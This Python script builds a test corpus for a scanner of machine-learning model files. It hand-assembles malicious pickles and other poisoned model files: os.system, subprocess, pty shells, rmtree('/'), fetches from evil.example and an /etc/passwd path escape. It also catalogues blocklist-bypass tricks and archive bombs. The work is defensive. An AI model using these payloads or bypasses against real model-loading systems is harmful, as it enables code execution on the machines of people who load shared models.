#!/usr/bin/python3
"""Builds the `gauntlet scan` fixture corpus.

Run with Debian's python3 (python3-torch, python3-numpy, python3-sklearn, python3-h5py,
python3-onnx):

    /usr/bin/python3 tools/scanner-corpus/make_corpus.py tests/Gauntlet.Scanner.Tests/Fixtures/corpus

Malicious pickles are assembled from opcode bytes here; nothing in this script ever unpickles
or loads a malicious artifact. Every file is listed in manifest.json with the severity the
scanner must report for it (the highest finding) and, for benign files, "low" as the ceiling.
"""
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib
import gzip

import numpy as np

OUT = sys.argv[1] if len(sys.argv) > 1 else "corpus"
MANIFEST = []


def path(kind, name):
    p = os.path.join(OUT, kind, name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def malicious(name, data, severity, rule, note):
    with open(path("malicious", name), "wb") as f:
        f.write(data)
    MANIFEST.append({"path": "malicious/" + name, "benign": False, "severity": severity, "rule": rule, "note": note})


def benign(name, writer, note):
    p = path("benign", name)
    writer(p)
    MANIFEST.append({"path": "benign/" + name, "benign": True, "severity": "low", "rule": None, "note": note})


# ---------------------------------------------------------------- pickle assembler
def s_uni(s):
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def s_short(s):
    b = s.encode("utf-8")
    return b"\x8c" + bytes([len(b)]) + b


def tup(*items):
    return b"(" + b"".join(items) + b"t"


def glob0(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module, name, *args, proto=2):
    """GLOBAL module.name, a tuple of string arguments, REDUCE, STOP."""
    body = glob0(module, name) + tup(*[s_uni(a) for a in args]) + b"R"
    return (b"\x80" + bytes([proto]) if proto >= 2 else b"") + body + b"."


# ---------------------------------------------------------------- malicious: denylist families
FAMILIES = [
    ("builtins_eval.pkl", "builtins", "eval", ["__import__('os').system('id')"], "critical"),
    ("builtins_exec.pkl", "builtins", "exec", ["import os; os.system('id')"], "critical"),
    ("builtins_compile.pkl", "builtins", "compile", ["print(1)", "<x>", "exec"], "critical"),
    ("builtins_open.pkl", "builtins", "open", ["/etc/passwd"], "high"),
    ("builtins_getattr.pkl", "builtins", "getattr", ["os", "system"], "high"),
    ("builtins_import.pkl", "builtins", "__import__", ["os"], "critical"),
    ("py2_builtin_eval.pkl", "__builtin__", "eval", ["1+1"], "critical"),
    ("os_system.pkl", "os", "system", ["touch /tmp/pwned"], "critical"),
    ("posix_system.pkl", "posix", "system", ["id"], "critical"),
    ("nt_system.pkl", "nt", "system", ["calc.exe"], "critical"),
    ("subprocess_popen.pkl", "subprocess", "Popen", ["id"], "critical"),
    ("subprocess_check_output.pkl", "subprocess", "check_output", ["id"], "critical"),
    ("sys_exit.pkl", "sys", "exit", ["1"], "high"),
    ("socket_create_connection.pkl", "socket", "create_connection", ["evil.example:4444"], "high"),
    ("shutil_rmtree.pkl", "shutil", "rmtree", ["/"], "high"),
    ("runpy_run_path.pkl", "runpy", "run_path", ["/tmp/x.py"], "critical"),
    ("pty_spawn.pkl", "pty", "spawn", ["/bin/sh"], "critical"),
    ("ctypes_cdll.pkl", "ctypes", "CDLL", ["libc.so.6"], "critical"),
    ("pickle_loads.pkl", "pickle", "loads", ["x"], "critical"),
    ("webbrowser_open.pkl", "webbrowser", "open", ["http://evil.example"], "high"),
    ("requests_get.pkl", "requests", "get", ["http://evil.example"], "high"),
    ("urllib_urlopen.pkl", "urllib.request", "urlopen", ["http://evil.example"], "high"),
    ("functools_partial.pkl", "functools", "partial", ["x"], "high"),
    ("operator_attrgetter.pkl", "operator", "attrgetter", ["system"], "high"),
    ("operator_itemgetter.pkl", "operator", "itemgetter", ["x"], "high"),
    ("operator_methodcaller.pkl", "operator", "methodcaller", ["system", "id"], "high"),
    ("types_codetype.pkl", "types", "CodeType", ["x"], "critical"),
    ("pkgutil_resolve_name.pkl", "pkgutil", "resolve_name", ["os:system"], "critical"),
    # Blocklist gaps that bypassed earlier scanners.
    ("pip_main.pkl", "pip", "main", ["install", "evil"], "critical"),
    ("timeit_timeit.pkl", "timeit", "timeit", ["__import__('os').system('id')"], "critical"),
    ("trace_trace.pkl", "trace", "Trace", [], "critical"),
    ("idlelib_run.pkl", "idlelib.pyshell", "ModifiedInterpreter", [], "critical"),
    ("doctest_debug_script.pkl", "doctest", "debug_script", ["import os"], "critical"),
    ("uuid_get_command_stdout.pkl", "uuid", "_get_command_stdout", ["id"], "critical"),
    ("imaplib_stream.pkl", "imaplib", "IMAP4_stream", ["id"], "critical"),
    ("logging_filehandler.pkl", "logging", "FileHandler", ["/etc/cron.d/x"], "high"),
    ("numpy_f2py_myeval.pkl", "numpy.f2py.crackfortran", "myeval", ["__import__('os').system('id')"], "critical"),
    ("torch_fx_exec.pkl", "torch.fx.graph_module", "_exec_with_source", ["import os"], "critical"),
    ("importlib_import_module.pkl", "importlib", "import_module", ["os"], "critical"),
    ("marshal_loads.pkl", "marshal", "loads", ["x"], "critical"),
    ("code_interact.pkl", "code", "interact", [], "critical"),
    ("torch_load.pkl", "torch", "load", ["/tmp/evil.pt"], "critical"),
]

for fname, module, name, args, severity in FAMILIES:
    malicious("families/" + fname, call(module, name, *args), severity, "pickle.dangerous-callable", f"{module}.{name}")

# An unknown callable is suspicious, never silently passed.
malicious("pickle/unknown_callable.pkl", call("mypackage.helpers", "do_something", "x"), "medium",
          "pickle.unknown-callable", "unknown global")

# ---------------------------------------------------------------- malicious: bypass techniques
# STACK_GLOBAL with the module and name strings fetched back from the memo.
stack_global_memo = (b"\x80\x04" + s_short("os") + b"\x94" + s_short("system") + b"\x94" + b"00"
                     + b"h\x00h\x01\x93" + s_short("id") + b"\x85R.")
malicious("pickle/stack_global_memo.pkl", stack_global_memo, "critical", "pickle.dangerous-callable",
          "STACK_GLOBAL with memo indirection")

# Protocol 0 INST and protocol 1 OBJ.
malicious("pickle/proto0_inst.pkl", b"(S'id'\nios\nsystem\n.", "critical", "pickle.dangerous-callable", "INST")
malicious("pickle/proto1_obj.pkl", b"(cos\nsystem\nS'id'\no.", "critical", "pickle.dangerous-callable", "OBJ")
# NEWOBJ_EX on subprocess.Popen.
malicious("pickle/newobj_ex.pkl", b"\x80\x04" + s_short("subprocess") + s_short("Popen") + b"\x93"
          + s_short("id") + b"\x85}\x92.", "critical", "pickle.dangerous-callable", "NEWOBJ_EX")
# A callable produced at load time: getattr(__import__('os'), 'system')('id').
dynamic = (b"\x80\x02" + glob0("builtins", "getattr") + b"(" + glob0("builtins", "__import__") + tup(s_uni("os"))
           + b"R" + s_uni("system") + b"tR" + tup(s_uni("id")) + b"R.")
malicious("pickle/dynamic_callable.pkl", dynamic, "critical", "pickle.dangerous-callable", "call of a call result")
# Benign pickle followed by a malicious one: pickle.load stops at the first STOP, but readers
# that loop (legacy torch, joblib) do not.
malicious("pickle/concatenated.pkl", pickle.dumps({"a": 1}, protocol=2) + call("os", "system", "id"),
          "critical", "pickle.multiple-pickles", "two pickles back to back")
# Malformed streams and memo tricks.
malicious("pickle/truncated.pkl", call("collections", "OrderedDict")[:-3], "medium", "pickle.malformed", "no STOP")
malicious("pickle/undefined_memo.pkl", b"\x80\x02h\x07.", "medium", "pickle.memo-trick", "BINGET of an unset index")
malicious("pickle/huge_bytes8.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b"abc", "high",
          "pickle.resource-exhaustion", "BINBYTES8 declares 2^60 bytes")
malicious("pickle/deep_nesting.pkl", b"\x80\x02" + b"]" * 200000 + b".", "high", "pickle.resource-exhaustion",
          "200k nested lists left on the stack")
# Non-standard extensions: the format is recognised by its bytes.
malicious("extensions/weights.jpg", call("os", "system", "id"), "critical", "pickle.dangerous-callable", ".jpg pickle")
malicious("extensions/model.dill", call("builtins", "exec", "import os"), "critical", "pickle.dangerous-callable", "dill")


def torch_like_zip(payload, archive="archive", mutate=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(archive + "/data.pkl", payload)
        z.writestr(archive + "/version", "3\n")
        z.writestr(archive + "/data/0", b"\x00" * 16)
    data = bytearray(buf.getvalue())
    if mutate:
        mutate(data)
    return bytes(data)


def headers_of(data, name):
    local = data.find(b"PK\x03\x04" + b"")
    while local >= 0:
        n = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30:local + 30 + n] == name:
            break
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central >= 0:
        n = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46:central + 46 + n] == name:
            break
        central = data.find(b"PK\x01\x02", central + 4)
    return local, central


def set_encrypted_flag(data):
    local, central = headers_of(data, b"archive/data.pkl")
    data[local + 6] |= 1
    data[central + 8] |= 1


def break_crc(data):
    local, central = headers_of(data, b"archive/data.pkl")
    struct.pack_into("<I", data, local + 14, 0xDEADBEEF)
    struct.pack_into("<I", data, central + 16, 0xDEADBEEF)


evil = call("os", "system", "id")
malicious("zip/torch_zip_os_system.pt", torch_like_zip(evil), "critical", "pickle.dangerous-callable", "torch zip")
malicious("zip/torch_zip_flag_bits.pt", torch_like_zip(evil, mutate=set_encrypted_flag), "critical",
          "pickle.dangerous-callable", "encryption flag set on a plain entry")
malicious("zip/torch_zip_bad_crc.pt", torch_like_zip(evil, mutate=break_crc), "critical",
          "pickle.dangerous-callable", "CRC mismatch")
malicious("extensions/model.txt", torch_like_zip(evil, archive="weights"), "critical", "pickle.dangerous-callable",
          "torch zip with a .txt name")

# Legacy torch: magic number, protocol, sys info, then the payload.
legacy = (pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2) + pickle.dumps(1001, protocol=2)
          + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2) + evil
          + pickle.dumps([], protocol=2))
malicious("legacy/legacy_torch_os_system.pth", legacy, "critical", "pickle.dangerous-callable", "legacy torch")

# NumPy object arrays carry a pickle.
def npy_object(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


malicious("numpy/object_array.npy", npy_object(evil), "critical", "pickle.dangerous-callable", "object dtype .npy")
npz = io.BytesIO()
with zipfile.ZipFile(npz, "w") as z:
    z.writestr("x.npy", npy_object(call("subprocess", "call", "id")))
malicious("numpy/object_array.npz", npz.getvalue(), "critical", "pickle.dangerous-callable", "object dtype .npz")


class Payload:
    def __reduce__(self):
        import os
        return (os.system, ("id",))  # only described here, never called


import joblib  # noqa: E402

jbuf = path("malicious", "joblib/estimator.joblib")
joblib.dump({"model": Payload(), "weights": np.arange(4.0)}, jbuf)
MANIFEST.append({"path": "malicious/joblib/estimator.joblib", "benign": False, "severity": "critical",
                 "rule": "pickle.dangerous-callable", "note": "joblib with a __reduce__ payload"})

# TorchScript: code inside the archive.
import torch  # noqa: E402


class Tiny(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)

    def forward(self, x):
        return torch.relu(self.fc(x))


torch.manual_seed(0)
torch.jit.script(Tiny()).save(path("malicious", "torchscript/tiny_scripted.pt"))
MANIFEST.append({"path": "malicious/torchscript/tiny_scripted.pt", "benign": False, "severity": "medium",
                 "rule": "torchscript.code", "note": "TorchScript archive"})

# Keras .keras archives.
def keras_zip(config, extra=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3", "date_saved": "2024-01-01@00:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 56)
        for k, v in (extra or {}).items():
            z.writestr(k, v)
    return buf.getvalue()


def sequential(*layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)},
            "registered_name": None}


def dense(units, name):
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "units": units,
            "activation": "relu"}, "registered_name": None}


lambda_layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "evil", "function": {
    "class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMEAAAAfABTAA==", "defaults": None,
                                           "closure": None}}}, "registered_name": None}
malicious("keras/lambda_layer.keras", keras_zip(sequential(dense(4, "d1"), lambda_layer)), "high",
          "keras.lambda-layer", "Lambda layer with marshalled bytecode")
tfop = {"module": "keras.layers", "class_name": "TFOpLambda", "config": {"name": "tf.io.write_file",
        "function": "io.write_file"}, "registered_name": None}
malicious("keras/tfoplambda.keras", keras_zip(sequential(dense(4, "d1"), tfop)), "high", "keras.tfoplambda",
          "TFOpLambda layer calling io.write_file")
custom = {"module": "my_layers", "class_name": "Evil", "config": {"name": "c"}, "registered_name": "Custom>Evil"}
malicious("keras/custom_object.keras", keras_zip(sequential(dense(4, "d1"), custom)), "medium",
          "keras.custom-object", "custom object from a non-Keras module")
malicious("keras/embedded_python.keras", keras_zip(sequential(dense(4, "d1")), {"assets/hook.py": "import os\n"}),
          "high", "keras.embedded-code", "python file inside the archive")

import h5py  # noqa: E402


def keras_h5(p, config):
    with h5py.File(p, "w") as f:
        f.attrs["keras_version"] = b"2.11.0"
        f.attrs["backend"] = b"tensorflow"
        f.attrs["model_config"] = json.dumps(config).encode("utf-8")
        g = f.create_group("model_weights")
        g.create_dataset("d1/kernel", data=np.ones((4, 4), dtype=np.float32))


keras_h5(path("malicious", "keras/lambda_layer.h5"),
         {"class_name": "Sequential", "config": {"name": "s", "layers": [
             {"class_name": "Dense", "config": {"name": "d1", "units": 4}},
             {"class_name": "Lambda", "config": {"name": "evil", "function": ["4wEAAAAAAAAA", None, None],
                                                 "function_type": "lambda"}}]}})
MANIFEST.append({"path": "malicious/keras/lambda_layer.h5", "benign": False, "severity": "high",
                 "rule": "keras.lambda-layer", "note": "Keras HDF5 with a Lambda layer"})

# ---------------------------------------------------------------- protobuf writer (TF and ONNX)
def varint(n):
    out = bytearray()
    n &= (1 << 64) - 1
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def field_bytes(num, data):
    if isinstance(data, str):
        data = data.encode()
    return varint(num << 3 | 2) + varint(len(data)) + data


def field_varint(num, value):
    return varint(num << 3) + varint(value)


def node_def(name, op):
    return field_bytes(1, name) + field_bytes(2, op)


def saved_model(ops):
    graph = b"".join(field_bytes(1, node_def(f"n{i}", op)) for i, op in enumerate(ops))
    meta = field_bytes(2, graph)
    return field_varint(1, 1) + field_bytes(2, meta)


malicious("tensorflow/pyfunc/saved_model.pb", saved_model(["Placeholder", "PyFunc", "Identity"]), "critical",
          "tensorflow.dangerous-op", "PyFunc op")
malicious("tensorflow/readfile/saved_model.pb", saved_model(["Const", "ReadFile", "WriteFile"]), "high",
          "tensorflow.dangerous-op", "ReadFile/WriteFile ops")

# ONNX
import onnx  # noqa: E402
from onnx import TensorProto, helper  # noqa: E402


def onnx_model(nodes, inits=(), opsets=(("", 13),)):
    graph = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])], list(inits))
    m = helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets])
    m.ir_version = 8
    return m.SerializeToString()


ext = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
ext.data_location = TensorProto.EXTERNAL
for k, v in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "16")):
    e = ext.external_data.add()
    e.key, e.value = k, v
malicious("onnx/external_data_escape.onnx", onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], [ext]), "high",
          "onnx.external-data", "external data path escapes the model folder")
malicious("onnx/custom_domain.onnx", onnx_model([helper.make_node("Evil", ["x"], ["y"], domain="com.evil")],
          opsets=(("", 13), ("com.evil", 1))), "medium", "onnx.custom-domain", "custom op domain")
malicious("onnx/python_op.onnx", onnx_model([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")],
          opsets=(("", 13), ("ai.onnx.contrib", 1))), "high", "onnx.python-op", "PyOp")
huge = helper.make_tensor("w", TensorProto.FLOAT, [1], vals=[1.0])
del huge.dims[:]
huge.dims.extend([1 << 31, 1 << 31, 1 << 20])
malicious("onnx/absurd_size.onnx", onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], [huge]), "medium",
          "onnx.absurd-size", "declared tensor of 2^82 elements")

# safetensors
def safetensors(header, data, declared=None):
    h = json.dumps(header).encode() if isinstance(header, dict) else header
    n = len(h) if declared is None else declared
    return struct.pack("<Q", n) + h + data


malicious("safetensors/header_too_long.safetensors", safetensors({}, b"", declared=1 << 40), "high",
          "safetensors.header", "header length beyond the file")
malicious("safetensors/bad_json.safetensors", safetensors(b'{"w": {"dtype": "F32", ', b"\x00" * 8), "high",
          "safetensors.header", "header is not JSON")
malicious("safetensors/out_of_bounds.safetensors",
          safetensors({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 4096]}}, b"\x00" * 16), "high",
          "safetensors.offsets", "offsets beyond the data")
malicious("safetensors/overlap.safetensors",
          safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                       "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, b"\x00" * 24), "high",
          "safetensors.offsets", "overlapping tensors")

# GGUF
def gguf_string(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(tensors=1, kv=1, bogus_counts=False):
    out = b"GGUF" + struct.pack("<I", 3)
    out += struct.pack("<QQ", (1 << 40) if bogus_counts else tensors, (1 << 40) if bogus_counts else kv + 1)
    out += gguf_string("general.architecture") + struct.pack("<I", 8) + gguf_string("llama")
    for i in range(kv):
        out += gguf_string(f"tiny.key{i}") + struct.pack("<I", 4) + struct.pack("<I", i)
    for i in range(tensors):
        out += gguf_string(f"t{i}") + struct.pack("<I", 1) + struct.pack("<Q", 4) + struct.pack("<I", 0)
        out += struct.pack("<Q", i * 32)
    out += b"\x00" * ((32 - len(out) % 32) % 32)
    out += b"\x00" * (16 * tensors + 16)
    return out


malicious("gguf/bogus_counts.gguf", gguf(bogus_counts=True), "high", "gguf.header", "2^40 tensors declared")

# Archives: bombs and nesting.
bomb = io.BytesIO()
with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr("zeros.bin", b"\x00" * (64 << 20))
malicious("archives/zip_bomb.zip", bomb.getvalue(), "high", "archive.bomb", "64 MiB of zeros in ~64 KiB")

inner = call("os", "system", "id")
for depth in range(12):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr("inner.zip" if depth else "payload.pkl", inner)
    inner = b.getvalue()
malicious("archives/nested_12_deep.zip", inner, "high", "archive.depth", "12 nested zips")

tgz = io.BytesIO()
with tarfile.open(fileobj=tgz, mode="w:gz") as t:
    payload = torch_like_zip(call("runpy", "run_module", "evil"))
    info = tarfile.TarInfo("release/model.bin")
    info.size = len(payload)
    t.addfile(info, io.BytesIO(payload))
malicious("archives/model_in_tar.tar.gz", tgz.getvalue(), "critical", "pickle.dangerous-callable",
          "torch zip inside tar.gz")
malicious("archives/pickle.pkl.gz", gzip.compress(call("os", "popen", "id"), mtime=0), "critical",
          "pickle.dangerous-callable", "gzip-compressed pickle")

# ---------------------------------------------------------------- benign
torch.manual_seed(0)


class Cnn(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = torch.nn.Conv2d(1, 4, 3)
        self.bn = torch.nn.BatchNorm2d(4)
        self.fc = torch.nn.Linear(4 * 6 * 6, 10)

    def forward(self, x):
        return self.fc(torch.relu(self.bn(self.conv(x))).flatten(1))


mlp = torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.ReLU(), torch.nn.Linear(16, 3))
cnn = Cnn()
lstm = torch.nn.LSTM(8, 8, num_layers=1)
transformer = torch.nn.TransformerEncoderLayer(d_model=16, nhead=2, dim_feedforward=32)

benign("torch/mlp_state_dict.pt", lambda p: torch.save(mlp.state_dict(), p), "MLP state dict")
benign("torch/cnn_state_dict.pth", lambda p: torch.save(cnn.state_dict(), p), "CNN with batch norm")
benign("torch/lstm_state_dict.bin", lambda p: torch.save(lstm.state_dict(), p), "LSTM")
benign("torch/transformer_state_dict.pt", lambda p: torch.save(transformer.state_dict(), p), "transformer layer")
opt = torch.optim.Adam(mlp.parameters(), lr=1e-3)
mlp(torch.randn(2, 8)).sum().backward()
opt.step()
benign("torch/checkpoint.ckpt", lambda p: torch.save({"epoch": 3, "model_state_dict": mlp.state_dict(),
                                                       "optimizer_state_dict": opt.state_dict(), "loss": 0.25,
                                                       "classes": ["a", "b", "c"]}, p), "training checkpoint")
benign("torch/tensors.pt", lambda p: torch.save({"int": torch.arange(5), "half": torch.ones(3).half(),
                                                  "bool": torch.ones(2, dtype=torch.bool), "size": torch.Size([2, 3])},
                                                 p), "tensor dict with several dtypes")
benign("legacy/mlp_legacy.pt", lambda p: torch.save(mlp.state_dict(), p, _use_new_zipfile_serialization=False),
       "legacy-format state dict")
benign("legacy/cnn_legacy.pth", lambda p: torch.save(cnn.state_dict(), p, _use_new_zipfile_serialization=False),
       "legacy-format CNN")

benign("numpy/float32.npy", lambda p: np.save(p, np.arange(12, dtype=np.float32).reshape(3, 4)), "npy")
benign("numpy/int64.npy", lambda p: np.save(p, np.arange(5, dtype=np.int64)), "npy int")
benign("numpy/arrays.npz", lambda p: np.savez(p, a=np.ones(3), b=np.zeros((2, 2))), "npz")
benign("numpy/compressed.npz", lambda p: np.savez_compressed(p, a=np.ones(50)), "compressed npz")
benign("numpy/pickled_array.pkl", lambda p: open(p, "wb").write(pickle.dumps({"x": np.arange(3.0), "y": np.float64(2)},
                                                                              protocol=2)), "numpy in pickle")

from sklearn.datasets import load_digits  # noqa: E402
from sklearn.ensemble import RandomForestClassifier  # noqa: E402
from sklearn.linear_model import LogisticRegression  # noqa: E402
from sklearn.pipeline import Pipeline  # noqa: E402
from sklearn.preprocessing import StandardScaler  # noqa: E402
from sklearn.tree import DecisionTreeClassifier  # noqa: E402

X, y = load_digits(return_X_y=True)
X, y = X[:200], y[:200]
logreg = LogisticRegression(max_iter=200).fit(X, y)
forest = RandomForestClassifier(n_estimators=2, max_depth=3, random_state=0).fit(X, y)
pipe = Pipeline([("scale", StandardScaler()), ("tree", DecisionTreeClassifier(max_depth=3, random_state=0))]).fit(X, y)
names = LogisticRegression(max_iter=200).fit(X[:, :4], np.array(["cat", "dog"] * 100))

benign("sklearn/logreg.pkl", lambda p: open(p, "wb").write(pickle.dumps(logreg)), "LogisticRegression pickle")
benign("sklearn/forest.pickle", lambda p: open(p, "wb").write(pickle.dumps(forest)), "RandomForest pickle")
benign("sklearn/logreg.joblib", lambda p: joblib.dump(logreg, p), "LogisticRegression joblib")
benign("sklearn/forest.joblib", lambda p: joblib.dump(forest, p), "RandomForest joblib")
benign("sklearn/pipeline.joblib", lambda p: joblib.dump(pipe, p), "Pipeline joblib")
benign("sklearn/string_labels.joblib", lambda p: joblib.dump(names, p), "object array of labels in joblib")


def write_safetensors(p):
    data = np.arange(6, dtype=np.float32).tobytes() + np.ones(2, dtype=np.int64).tobytes()
    header = {"__metadata__": {"format": "pt"},
              "w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]},
              "b": {"dtype": "I64", "shape": [2], "data_offsets": [24, 40]}}
    h = json.dumps(header).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    open(p, "wb").write(struct.pack("<Q", len(h)) + h + data)


benign("safetensors/model.safetensors", write_safetensors, "safetensors")


def safetensors_with_header_length(n):
    """A valid safetensors file whose JSON header is space-padded to exactly n bytes. The file
    starts with n as a u64, so n = 0x80 + 0x100 * k (k <= 5) starts 80 0k: a pickle PROTO k."""
    def write(p):
        data = struct.pack("<4f", 0, 1, 2, 3)
        h = json.dumps({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
        assert len(h) <= n
        open(p, "wb").write(struct.pack("<Q", n) + h + b" " * (n - len(h)) + data)
    return write


benign("safetensors/header_128.safetensors", safetensors_with_header_length(0x80),
       "128-byte header: the file starts 80 00, a pickle PROTO 0")
benign("safetensors/header_384.safetensors", safetensors_with_header_length(0x180),
       "384-byte header (0x80 + 0x100): the file starts 80 01, a pickle PROTO 1")


def export_onnx(p):
    torch.onnx.export(mlp, torch.randn(1, 8), p, opset_version=13)


benign("onnx/mlp.onnx", export_onnx, "torch.onnx.export of the MLP")


def onnx_external(p):
    w = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", "weights.bin"), ("offset", "0"), ("length", "16")):
        e = w.external_data.add()
        e.key, e.value = k, v
    open(p, "wb").write(onnx_model([helper.make_node("Add", ["x", "w"], ["y"])], [w]))
    open(os.path.join(os.path.dirname(p), "weights.bin"), "wb").write(np.ones(4, dtype=np.float32).tobytes())


benign("onnx/external/model.onnx", onnx_external, "ONNX with external data beside it")
benign("keras/plain.keras", lambda p: open(p, "wb").write(keras_zip(sequential(dense(8, "d1"), dense(2, "d2")))),
       "plain Keras model")
benign("keras/plain.h5", lambda p: keras_h5(p, {"class_name": "Sequential", "config": {"name": "s", "layers": [
    {"class_name": "Dense", "config": {"name": "d1", "units": 4}}]}}), "plain Keras HDF5")
benign("tensorflow/saved_model.pb", lambda p: open(p, "wb").write(
    saved_model(["Placeholder", "Const", "MatMul", "BiasAdd", "Relu", "SaveV2", "RestoreV2", "Identity"])),
    "SavedModel graph")
benign("gguf/tiny.gguf", lambda p: open(p, "wb").write(gguf(tensors=2, kv=2)), "tiny GGUF")

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import extra_samples  # noqa: E402

extra_samples.add(OUT, MANIFEST)

with open(os.path.join(OUT, "manifest.json"), "w") as f:
    json.dump({"files": MANIFEST}, f, indent=1)
total = sum(os.path.getsize(os.path.join(r, n)) for r, _, ns in os.walk(OUT) for n in ns)
print(f"{len(MANIFEST)} artifacts, {total / 1e6:.2f} MB in {OUT}")
